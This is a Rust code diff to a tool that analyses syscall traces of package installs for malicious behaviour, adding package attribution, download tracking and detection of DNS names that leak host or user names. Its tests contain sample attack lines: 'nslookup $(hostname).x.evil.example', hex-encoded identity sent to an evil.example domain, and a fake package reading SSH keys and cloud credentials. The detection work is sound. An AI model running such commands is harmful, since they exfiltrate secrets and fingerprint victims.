@@ -32,6 +32,11 @@ pub struct Context {
     pub project: Option<String>,
     /// Values planted in canary credentials; seeing one leave is exfiltration.
     pub canaries: Vec<String>,
+    /// What identifies the traced machine and user: its host name, the
+    /// user's name. Sent out in a DNS name, it is a fingerprint of the
+    /// victim. More are learnt from a recorded environment (`HOSTNAME`,
+    /// `USER`, `LOGNAME`).
+    pub identity: Vec<String>,
 }
 
 /// How many events may wait for their task's Spawn before they are
@@ -64,11 +69,15 @@ pub struct Analyzer<'r> {
     dns: Vec<DnsQueryRecord>,
     dns_seen: HashSet<(String, String)>,
     created: HashSet<String>,
+    /// Files of `created` written by a process that was online.
+    downloaded: HashSet<String>,
     /// Directories created in this run (mkdir).
     dirs: HashSet<String>,
     /// IP → host name, from DNS answers the sandbox saw.
     names: HashMap<IpAddr, String>,
     env_home: Option<String>,
+    /// Host and user names from recorded environments.
+    learnt_identity: Vec<String>,
     /// With HOME unknown: the homes (`/root`, `/home/<user>`) the trace
     /// shows to be the traced user's: the command started or changed
     /// directory there, or something there was opened, run or found.
@@ -107,9 +116,11 @@ impl<'r> Analyzer<'r> {
             dns: Vec::new(),
             dns_seen: HashSet::new(),
             created: HashSet::new(),
+            downloaded: HashSet::new(),
             dirs: HashSet::new(),
             names: HashMap::new(),
             env_home: None,
+            learnt_identity: Vec::new(),
             own_homes,
             bound: HashMap::new(),
             datagrams: HashMap::new(),
@@ -187,6 +198,13 @@ impl<'r> Analyzer<'r> {
                 actor.exe = Some(path.clone());
                 actor.argv_line = argv.join(" ");
                 actor.argv = argv.clone();
+                // Whose package the new program works for: what its
+                // environment or directory says, else its parent's.
+                let cwd = self.model.get(pid).and_then(|p| p.cwd.clone()).or_else(|| self.ctx.cwd.clone());
+                let package = package_of(&env, cwd.as_deref()).filter(|_| !actor.is_package_manager);
+                let package_dir = package.as_ref().and_then(|_| package_dir_of(&env, cwd.as_deref()));
+                actor.package = package.clone().or(actor.package);
+                actor.package_dir = package_dir.clone().or(actor.package_dir);
                 fact.actor = Arc::new(actor);
                 fact.path = Some(path.clone());
                 fact.home_rel = self.home_rel(&path);
@@ -200,10 +218,20 @@ impl<'r> Analyzer<'r> {
                 // too (extraction) and are expected to run, so a script
                 // counts only outside the package's directory.
                 let script = script_arg(&argv).map(|a| self.model.resolve(pid, None, a));
-                let created_script = script.is_some_and(|s| {
-                    self.created.contains(&s) && !self.ctx.project.as_deref().is_some_and(|d| paths::is_within(&s, d))
+                let created_script = script.as_ref().is_some_and(|s| {
+                    self.created.contains(s) && !self.ctx.project.as_deref().is_some_and(|d| paths::is_within(s, d))
                 });
                 fact.created_in_run = self.created.contains(&path) || created_script;
+                fact.downloaded =
+                    self.downloaded.contains(&path) || script.as_ref().is_some_and(|s| self.downloaded.contains(s));
+                // The program (or the script it runs) in the package's own
+                // directory.
+                let target = if created_script { script.clone() } else { Some(path.clone()) };
+                fact.in_package_dir = fact
+                    .actor
+                    .package_dir
+                    .as_deref()
+                    .is_some_and(|d| target.as_deref().is_some_and(|t| paths::is_within(t, d)));
                 fact.canary = self.has_canary(argv.iter().chain(env.iter()).map(String::as_str));
                 // The command the user (or pkgtrace, for a phase) asked to
                 // trace is not behaviour: the first program of a process no
@@ -212,7 +240,33 @@ impl<'r> Analyzer<'r> {
                 if !own_command {
                     self.check(&fact, ev);
                 }
+                let leader = self.model.leader_of(pid);
+                // A PATH search is one command: its attempts replace each
+                // other, and the program that finally starts replaces them.
+                let attempt =
+                    self.commands.last().is_some_and(|c| c.pid == leader && c.failed.is_some() && c.argv == argv);
+                if attempt {
+                    self.commands.pop();
+                }
+                if result.failed() {
+                    let parent = self.model.get(pid).and_then(|p| p.parent);
+                    self.commands.push(Command {
+                        argv: argv.clone(),
+                        exe: path.clone(),
+                        pid: leader,
+                        parent,
+                        chain: self.chain_text(pid),
+                        failed: Some(result.errno.clone().unwrap_or_else(|| "failed".into())),
+                    });
+                }
                 if result.success() {
+                    for e in &env {
+                        let value = ["HOSTNAME=", "USER=", "LOGNAME="].iter().find_map(|k| e.strip_prefix(k));
+                        if let Some(v) = value.filter(|v| v.len() >= 3 && !self.learnt_identity.iter().any(|l| l == v))
+                        {
+                            self.learnt_identity.push(v.to_string());
+                        }
+                    }
                     let home = env.iter().find_map(|e| e.strip_prefix("HOME=")).map(str::to_string);
                     if self.env_home.is_none() {
                         self.env_home.clone_from(&home);
@@ -223,6 +277,11 @@ impl<'r> Analyzer<'r> {
                         self.inferred_ecosystem = ecosystem_of(&fact.actor.chain, &argv);
                     }
                     self.model.exec(pid, path.clone(), argv.clone(), home);
+                    if package.is_some() {
+                        let task = self.model.task(pid);
+                        task.package = package;
+                        task.package_dir = package_dir;
+                    }
                     self.actors.clear();
                     self.commands.push(Command {
                         argv,
@@ -230,6 +289,7 @@ impl<'r> Analyzer<'r> {
                         pid: self.model.leader_of(pid),
                         parent,
                         chain: self.chain_text(pid),
+                        failed: None,
                     });
                 }
             }
@@ -271,6 +331,9 @@ impl<'r> Analyzer<'r> {
                     ok,
                 );
                 if newly_created {
+                    if self.model.get(pid).is_some_and(|p| p.online) {
+                        self.downloaded.insert(path.clone());
+                    }
                     self.created.insert(path);
                 }
             }
@@ -305,6 +368,9 @@ impl<'r> Analyzer<'r> {
                 let ok = result.success();
                 self.touch(&from, |r| r.delete = true, ok);
                 self.touch(&to, |r| r.write = true, ok);
+                if ok && self.downloaded.remove(&from) {
+                    self.downloaded.insert(to.clone());
+                }
                 if ok && (self.created.remove(&from) || !self.files.contains_key(&to)) {
                     self.created.insert(to);
                 }
@@ -372,6 +438,10 @@ impl<'r> Analyzer<'r> {
                 );
                 let mut fact = self.addr_fact(pid, "connect", "connect", addr);
                 fact.success = known(result);
+                let through = result.success() || result.errno.as_deref() == Some("EINPROGRESS");
+                if through && fact.ip.is_some_and(|ip| !ip.to_canonical().is_loopback()) {
+                    self.model.task(pid).online = true;
+                }
                 fact.errno = result.errno.clone();
                 self.check(&fact, ev);
                 if !stream && addr.ip_port().is_some() {
@@ -644,6 +714,7 @@ impl<'r> Analyzer<'r> {
         fact.host = Some(q.name.clone());
         fact.encoded_label = dns::looks_encoded(&q.name);
         fact.canary = self.has_canary(std::iter::once(q.name.as_str()));
+        fact.identity = self.carries_identity(&q.name);
         self.fill_addr(&mut fact, server);
         fact.host = Some(q.name.clone());
         fact.success = Some(true);
@@ -657,6 +728,30 @@ impl<'r> Analyzer<'r> {
                 pid: self.model.leader_of(pid),
             });
         }
+    }
+
+    /// Does a DNS name carry the machine's or the user's name: as a whole
+    /// label (or a `-`/`_`-separated part of one), or hex/base32/base64
+    /// encoded in a label?
+    fn carries_identity(&self, name: &str) -> bool {
+        let ids: Vec<String> = self.identity().filter(|i| i.len() >= 3).map(|i| i.to_ascii_lowercase()).collect();
+        if ids.is_empty() {
+            return false;
+        }
+        let lower = name.to_ascii_lowercase();
+        let plain = lower.split('.').any(|label| {
+            ids.iter().any(|id| {
+                label == id
+                    || label.split(['-', '_']).any(|part| part == id)
+                    || (id.len() >= 8 && label.contains(id.as_str()))
+            })
+        });
+        plain || crate::canary::contains_encoded(name, &ids)
+    }
+
+    /// The identity values: given, and learnt from recorded environments.
+    fn identity(&self) -> impl Iterator<Item = &String> {
+        self.ctx.identity.iter().chain(self.learnt_identity.iter())
     }
 
     /// Runs the pack on a fact and records what fires.
@@ -681,7 +776,8 @@ impl<'r> Analyzer<'r> {
                     .clone()
                     .or_else(|| fact.success.map(|s| if s { "ok" } else { "failed" }.to_string())),
             };
-            findings.record(idx, rule, &fact.phase, subject, pid, fact.actor.chain.clone(), evidence, verdict);
+            let (process, package) = (fact.actor.chain.clone(), fact.actor.package.clone());
+            findings.record(idx, rule, &fact.phase, subject, pid, process, package, evidence, verdict);
         });
     }
 
@@ -718,6 +814,8 @@ impl<'r> Analyzer<'r> {
             parent_exe: ancestors.first().cloned(),
             ancestors,
             chain: chain_text(&self.model, leader),
+            package: me.and_then(|p| p.package.clone()),
+            package_dir: me.and_then(|p| p.package_dir.clone()),
         });
         self.actors.insert(leader, actor.clone());
         actor
@@ -729,6 +827,8 @@ impl<'r> Analyzer<'r> {
         f.foreign_home = self.foreign_home(path);
         f.in_project = self.ctx.project.as_deref().is_some_and(|d| paths::is_within(path, d));
         f.created_in_run = self.created.contains(path);
+        f.downloaded = self.downloaded.contains(path);
+        f.in_package_dir = f.actor.package_dir.as_deref().is_some_and(|d| paths::is_within(path, d));
         f.target = self.proc_target(pid, path);
         f.path = Some(path.to_string());
         f
@@ -941,6 +1041,57 @@ impl<'r> Analyzer<'r> {
             events: self.events,
         }
     }
+}
+
+/// The package a program started with this environment in this directory
+/// works for: npm gives a package's lifecycle scripts `npm_package_name`
+/// and `npm_package_version`, cargo gives build scripts (and the rustc of
+/// each crate) `CARGO_PKG_NAME` and `CARGO_PKG_VERSION`; without them, the
+/// directory says it: `node_modules/<name>` (npm runs a dependency's
+/// scripts there), pip's `pip-install-*/<name>_<hash>` build directory.
+/// The directory of the package [`package_of`] names: cargo's
+/// `CARGO_MANIFEST_DIR`, else the directory the script started in, cut
+/// after `node_modules/<name>` or pip's build directory.
+fn package_dir_of(env: &[String], cwd: Option<&str>) -> Option<String> {
+    if let Some(dir) = env.iter().find_map(|e| e.strip_prefix("CARGO_MANIFEST_DIR=")) {
+        return Some(dir.to_string());
+    }
+    let cwd = cwd?;
+    if let Some(i) = cwd.rfind("/node_modules/") {
+        let start = i + "/node_modules/".len();
+        let parts = if cwd[start..].starts_with('@') { 2 } else { 1 };
+        let end = cwd[start..].split('/').take(parts).map(|p| p.len() + 1).sum::<usize>() - 1;
+        return Some(cwd[..start + end].to_string());
+    }
+    if let Some(i) = cwd.find("/pip-install-") {
+        let rest = &cwd[i + 1..];
+        let end = rest.split('/').take(2).map(|p| p.len() + 1).sum::<usize>() - 1;
+        return Some(cwd[..i + 1 + end.min(rest.len())].to_string());
+    }
+    Some(cwd.to_string())
+}
+
+fn package_of(env: &[String], cwd: Option<&str>) -> Option<String> {
+    let var = |k: &str| env.iter().find_map(|e| e.strip_prefix(k)?.strip_prefix('=')).filter(|v| !v.is_empty());
+    for (name, version) in [("npm_package_name", "npm_package_version"), ("CARGO_PKG_NAME", "CARGO_PKG_VERSION")] {
+        if let Some(n) = var(name) {
+            return Some(match var(version) {
+                Some(v) => format!("{n}@{v}"),
+                None => n.to_string(),
+            });
+        }
+    }
+    let cwd = cwd?;
+    if let Some(i) = cwd.rfind("/node_modules/") {
+        let rest = &cwd[i + "/node_modules/".len()..];
+        let mut parts = rest.split('/');
+        let first = parts.next().filter(|p| !p.is_empty() && !p.starts_with('.'))?;
+        return Some(if first.starts_with('@') { format!("{first}/{}", parts.next()?) } else { first.to_string() });
+    }
+    let (_, rest) = cwd.split_once("/pip-install-")?;
+    let dir = rest.split('/').nth(1)?;
+    let (name, hash) = dir.rsplit_once('_')?;
+    (hash.len() >= 8 && hash.bytes().all(|b| b.is_ascii_hexdigit())).then(|| name.to_string())
 }
 
 /// The home directory `path` is in: `/root` or `/home/<user>`.
@@ -1223,5 +1374,100 @@ mod dir_tests {
         let subjects = rules_on(&r, "exec-from-temp-or-memfd");
         assert_eq!(subjects, ["node -e 2"], "the child is the command's behaviour, the command is not");
         assert_eq!(r.behaviour.commands.len(), 2, "both are listed as commands");
+    }
+
+    #[test]
+    fn programs_that_could_not_start_are_commands_too() {
+        let r = install(&[
+            r#"7 execve("/usr/bin/sh", ["sh", "-c", "nslookup $(hostname).x.evil.example; ./bin/tool"], 0x1 /* 1 var */) = 0"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
+            r#"8 execve("/usr/local/bin/nslookup", ["nslookup", "box.x.evil.example"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
+            r#"8 execve("/usr/bin/nslookup", ["nslookup", "box.x.evil.example"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 9",
+            r#"9 execve("./bin/tool", ["./bin/tool"], 0x1 /* 1 var */) = -1 EACCES (Permission denied)"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 10",
+            r#"10 execve("/usr/local/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = -1 ENOENT (No such file or directory)"#,
+            r#"10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#,
+        ]);
+        let got: Vec<(String, Option<&str>)> =
+            r.behaviour.commands.iter().map(|c| (c.argv.join(" "), c.failed.as_deref())).collect();
+        assert_eq!(
+            got,
+            [
+                ("sh -c nslookup $(hostname).x.evil.example; ./bin/tool".to_string(), None),
+                ("nslookup box.x.evil.example".to_string(), Some("ENOENT")),
+                ("./bin/tool".to_string(), Some("EACCES")),
+                ("node x.js".to_string(), None),
+            ],
+            "one entry per PATH search; a search that found its program is that program"
+        );
+        assert_eq!(rules_on(&r, "exec-network-tool"), ["nslookup box.x.evil.example"], "the attempt is behaviour");
+    }
+
+    #[test]
+    fn a_dns_name_carrying_the_host_or_user_name_is_flagged() {
+        let query = |name: &str| {
+            let mut q = String::from(r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00");
+            for label in name.split('.') {
+                q.push_str(&format!(r"\x{:02x}{label}", label.len()));
+            }
+            q.push_str(r"\x00\x00\x01\x00\x01");
+            format!(
+                r#"7 sendto(4, "{q}", 40, 0, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.1")}}, 16) = 40"#
+            )
+        };
+        let lines = [
+            r#"7 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 1 var */) = 0"#.to_string(),
+            "7 socket(AF_INET, SOCK_DGRAM, IPPROTO_IP) = 4".to_string(),
+            query("devbox-1a2f.alice.x.evil.example"),
+            // hex of "alice" and the host name in one label
+            query("616c6963652d646576626f782d31613266.y.evil.example"),
+            query("devbox-1a2f"),
+            query("cdn.example.com"),
+        ];
+        let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
+        let ctx = Context {
+            phase: "install".into(),
+            identity: vec!["devbox-1a2f".into(), "alice".into()],
+            ..Context::default()
+        };
+        let r = crate::testutil::analyze_lines(&lines, ctx);
+        let mut active: Vec<&str> = r
+            .findings
+            .iter()
+            .filter(|f| f.rule == "dns-carries-identity" && f.is_active())
+            .map(|f| f.subject.as_str())
+            .collect();
+        active.sort_unstable();
+        assert_eq!(active, ["616c6963652d646576626f782d31613266.y.evil.example", "devbox-1a2f.alice.x.evil.example"]);
+    }
+
+    #[test]
+    fn findings_name_the_package_whose_script_did_it() {
+        let r = install(&[
+            r#"7 execve("/usr/bin/node", ["npm", "rebuild"], ["HOME=/home/u"]) = 0"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
+            r#"8 chdir("/home/u/project/node_modules/@evil/pkg") = 0"#,
+            r#"8 execve("/bin/sh", ["sh", "-c", "node install.js"], ["npm_package_name=@evil/pkg", "npm_package_version=1.2.3"]) = 0"#,
+            "8 clone(child_stack=NULL, flags=SIGCHLD) = 9",
+            r#"9 execve("/usr/bin/node", ["node", "install.js"], ["npm_package_name=@evil/pkg", "npm_package_version=1.2.3"]) = 0"#,
+            r#"9 openat(AT_FDCWD, "/home/u/.ssh/id_rsa", O_RDONLY) = 3"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 10",
+            r#"10 chdir("/home/u/project/node_modules/other") = 0"#,
+            r#"10 execve("/bin/sh", ["sh", "-c", "node x.js"], ["PATH=/usr/bin"]) = 0"#,
+            r#"10 openat(AT_FDCWD, "/home/u/.aws/credentials", O_RDONLY) = 3"#,
+        ]);
+        let by = |rule: &str| r.findings.iter().find(|f| f.rule == rule).and_then(|f| f.package.clone());
+        assert_eq!(by("read-ssh-private-key").as_deref(), Some("@evil/pkg@1.2.3"), "from npm's environment");
+        assert_eq!(by("read-cloud-credentials").as_deref(), Some("other"), "from the directory npm runs it in");
+        assert_eq!(
+            package_of(&[], Some("/tmp/pip-install-k2j3/psutil_0123456789abcdef0123456789abcdef")).as_deref(),
+            Some("psutil")
+        );
+        assert_eq!(
+            package_of(&["CARGO_PKG_NAME=ring".into(), "CARGO_PKG_VERSION=0.17.8".into()], None).as_deref(),
+            Some("ring@0.17.8")
+        );
+        assert_eq!(package_of(&[], Some("/home/u/project")), None);
     }
 }
